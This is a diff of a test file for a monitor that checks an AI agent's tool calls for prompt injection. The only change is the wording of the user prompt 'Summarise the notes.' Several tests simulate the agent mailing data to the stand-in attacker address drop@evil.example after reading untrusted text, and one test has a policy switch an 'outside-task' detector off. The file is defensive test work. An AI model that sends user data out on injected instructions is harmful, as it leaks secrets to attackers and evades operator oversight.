@@ -90,7 +90,7 @@ describe('a call that a text asked for, and the person did not', () => {
   })
 
   test('runs after the operator has let it, and what was found counts no more', async () => {
-    said('Summarise the notes.')
+    said('Please summarise the notes of the last meeting.')
     const heard = mail('drop@evil.example')
     await answer('allow')
     await expect(heard).resolves.toBe('allow')
@@ -136,7 +136,7 @@ describe('a session that has read strangers and holds a secret', () => {
 test('a policy sets thresholds and switches detectors off', async () => {
   home.policy(`${POLICY}monitor: { off: [outside-task] }\n`)
   await expect.poll(async () => (await window.call('state', {})).policy.revision).toBeGreaterThan(1)
-  said('Summarise the notes.')
+  said('Please summarise the notes of the last meeting.')
   await expect(mail('anybody@example.org')).resolves.toBe('allow')
 })
 
@@ -157,7 +157,7 @@ describe('profiles', () => {
   })
 
   test('learn nothing from a session that raised an alarm', async () => {
-    said('Summarise the notes.')
+    said('Please summarise the notes of the last meeting.')
     const heard = mail('drop@evil.example')
     await answer('deny')
     await heard
